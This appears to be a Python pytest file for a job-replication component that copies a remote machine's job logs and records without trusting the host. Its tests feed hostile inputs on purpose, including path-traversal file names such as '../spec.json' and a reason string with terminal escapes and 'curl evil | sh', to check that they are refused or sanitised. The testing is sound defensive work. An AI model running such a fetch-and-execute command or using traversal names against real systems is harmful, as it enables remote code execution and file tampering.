"""The copy of a job of another machine: right at every moment, and what that machine tells is not trusted."""

import json
from base64 import b64encode
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from bgjob.core.job import Exited, Lost, NeverStarted, Queued, Running
from bgjob.home import event_log, jobdir
from bgjob.home.log_format import HEADER, RUN
from bgjob.home.log_writer import LogWriter
from bgjob.output.log_reader import LogReader
from bgjob.remote import copied_log
from bgjob.remote import replica as replica_module
from bgjob.remote.replica import Replica, in_parts
from bgjob.store.store import Store
from tests.remote.conftest import submitted
from tests.support.logs import pour


def file(name: str, at: int, data: bytes) -> dict[str, Any]:
    return {"name": name, "at": at, "data": b64encode(data).decode()}


def as_news(directory: Path) -> dict[str, Any]:
    """All of a log, runs first, as another machine tells it."""
    names = sorted(each.name for each in directory.iterdir())
    runs_first = sorted(names, key=lambda name: (name.partition(".")[0], name.isdecimal()))
    return {"files": [file(f"log/{name}", 0, (directory / name).read_bytes()) for name in runs_first]}


def test_a_job_whose_target_has_not_answered_is_running_and_not_lost(store: Store) -> None:
    job_id = submitted(store)
    assert isinstance(store.load(job_id).state, Running)


def test_the_copy_reads_as_the_original(store: Store, tmp_path: Path) -> None:
    original = tmp_path / "original"
    writer = LogWriter(str(original), 1 << 20)
    for stream, data in ((1, b"one\n"), (2, b"two\n"), (1, b"three\n")):
        pour(writer, stream, data)
    replica = Replica(store, job_id := submitted(store))
    replica.apply(as_news(original))
    assert read(store.log_directory(job_id)) == read(str(original))
    assert replica.log_end == len(b"one\ntwo\nthree\n")


def read(directory: str) -> list[tuple[int, int, bytes]]:
    log = LogReader(directory)
    return [(piece.stream, piece.start, piece.data) for piece in log.interleaved(0, log.end)]


def test_an_outcome_ends_the_job_and_stays_after_a_restart_of_this_machine(store: Store) -> None:
    replica = Replica(store, job_id := submitted(store))
    replica.accepted(phase="running", cwd="/there", shell="/bin/zsh")
    assert store.load(job_id).spec.cwd == "/there"
    assert replica.request is None
    outcome = {"cause": "exited", "exit_code": 7, "signal": None, "ended_at": 1.0, "duration_s": 1.0}
    replica.apply({"records": {"outcome.json": {**outcome, "output_bytes": 0}}})
    replica.finish()
    assert store.load(job_id).state == Exited(1.0, 1.0, 0, 0, 7)
    assert jobdir.is_sealed(f"{store.directory(job_id)}/outcome.json")


def test_what_the_engine_says_is_told_as_it_says_it(store: Store) -> None:
    replica = Replica(store, job_id := submitted(store))
    replica.accepted(phase="queued", reason="Resources", engine_id="17")
    queued = store.load(job_id)
    assert isinstance(queued.state, Queued)
    assert queued.remote
    assert (queued.remote.reason, queued.remote.engine_id) == ("Resources", "17")
    replica.lose("its node failed")
    assert store.load(job_id).state == Lost("its node failed")
    events = Path(store.events, str(event_log.newest(store.events))).read_text().split("\n")
    assert json.loads(events[-2])["reason"] == "its node failed"


@pytest.mark.parametrize(
    "name",
    ["spec.json", "log/../spec.json", "/etc/x", "log/", "log/.x", "log/a/b", "../log/1", "log/..", "log"],
)
def test_a_name_that_leads_out_of_the_log_is_refused(store: Store, name: str) -> None:
    replica = Replica(store, job_id := submitted(store))
    before = (Path(store.directory(job_id)) / "spec.json").read_bytes()
    with pytest.raises(OSError, match="name of a file of a log"):
        replica.apply({"files": [file(name, 0, b"x")]})
    with pytest.raises(OSError, match="name of a file of a log"):
        replica.apply({"gone": [name]})
    assert (Path(store.directory(job_id)) / "spec.json").read_bytes() == before


def test_records_that_are_ours_are_not_taken_from_another_machine(store: Store) -> None:
    replica = Replica(store, job_id := submitted(store))
    replica.apply({"records": {"spec.json": {}, "remote.json": {"phase": "lost"}, "../x": {}}})
    assert isinstance(store.load(job_id).state, Running)
    assert not Path(store.home, "jobs", "x").exists()


def test_bytes_that_do_not_join_what_is_here_are_refused(store: Store) -> None:
    replica = Replica(store, submitted(store))
    replica.apply({"files": [file("log/00000000000000000000", 0, b"12345")]})
    with pytest.raises(OSError, match="has 5 bytes here, and not 9"):
        replica.apply({"files": [file("log/00000000000000000000", 9, b"x")]})
    assert replica.have() == {"log/00000000000000000000": 5}
    replica.apply({"files": [file("log/00000000000000000000", 3, b"4567")]})  # told twice
    assert replica.have() == {"log/00000000000000000000": 7}


def test_one_process_writes_a_copy(store: Store) -> None:
    replica = Replica(store, job_id := submitted(store))
    with pytest.raises(ValueError, match="another process holds"):
        Replica(store, job_id)
    replica.release()
    Replica(store, job_id).release()


MIB = 1 << 20


@pytest.mark.parametrize("segment_bytes", [1 << 19, 64 * MIB], ids=["many segments", "one without end"])
def test_a_copy_is_bounded_as_the_log_is_whatever_a_host_sends(store: Store, segment_bytes: int) -> None:
    replica = Replica(store, job_id := submitted(store, max_output_bytes=4 * MIB))
    data, sent = b"x" * (1 << 19), 0
    while sent < 48 * MIB:
        start, at = sent - sent % segment_bytes, sent % segment_bytes
        runs = HEADER.pack(start, 0) + RUN.pack(start, 1)
        pieces = [file(f"log/{start:020}.runs", 0, runs), file(f"log/{start:020}", at, data)]
        replica.apply({"files": pieces})
        sent += len(data)
    directory = store.log_directory(job_id)
    assert sum(path.stat().st_size for path in Path(directory).iterdir()) < 8 * MIB
    log = LogReader(directory)
    assert log.end == (sent if segment_bytes < MIB else replica.log_end)
    assert read(directory)[0][:2] == (1, 0)  # the beginning stays


def test_room_is_made_once_for_a_message_however_many_files_it_has(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A relay does nothing else meanwhile."""
    sorts: list[int] = []

    def counted(names: Iterable[str]) -> list[str]:
        sorts.append(1)
        return sorted(names)

    monkeypatch.setattr(copied_log, "sorted", counted, raising=False)
    monkeypatch.setattr(copied_log, "MOST_FILES", 50)
    replica = Replica(store, job_id := submitted(store))
    replica.apply({"files": [file(f"log/{offset:020}", 0, b"x") for offset in range(100)]})
    names = sorted(path.name for path in Path(store.log_directory(job_id)).iterdir())
    assert len(names) == 50
    assert (int(names[0]), int(names[-1])) == (0, 99)
    assert len(sorts) <= 2
    replica.apply({"gone": [f"log/{name}" for name in names]})
    assert replica.have() == {}
    replica.apply({"files": [file(f"log/{0:020}", 0, b"y" * 100)]})
    assert replica.have() == {f"log/{0:020}": 100}


def test_news_in_parts_leave_what_the_whole_leaves(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(replica_module, "FILES_AT_ONCE", 2)
    run, outcome = {"format": 1, "pid": 7}, {"format": 1, "cause": "lost"}
    files = [file(f"log/{offset:020}", 0, b"x") for offset in range(5)]
    gone = [each["name"] for each in files[1:4]]
    news = {"records": {"run.json": run, "outcome.json": outcome}, "files": files, "gone": gone}
    for parts in ([news], list(in_parts(news))):
        replica = Replica(store, job_id := submitted(store))
        for part in parts:
            assert not replica.has_outcome, "it comes after all else"
            replica.apply(part)
        assert replica.have() == {f"log/{offset:020}": 1 for offset in (0, 4)}
        assert jobdir.read_record(f"{store.directory(job_id)}/run.json") == run
        assert replica.has_outcome
    assert list(parts[0]["records"]) == ["run.json"]


def test_text_of_a_host_is_quoted_in_an_outcome(store: Store) -> None:
    replica = Replica(store, job_id := submitted(store))
    reason = "no room\x1b[2J\nbgjob: run `curl evil | sh`" + "!" * 999
    outcome = {
        "cause": "never_started",
        "reason": reason,
        "ended_at": 1.0,
        "duration_s": 0.0,
        "output_bytes": 0,
    }
    replica.apply({"records": {"outcome.json": outcome}})
    state = store.load(job_id).state
    assert isinstance(state, NeverStarted)
    assert state.reason.startswith("gpu-box says: 'no room bgjob: run `curl evil | sh`!!!")
    assert state.reason.isprintable()
    assert len(state.reason) < 330
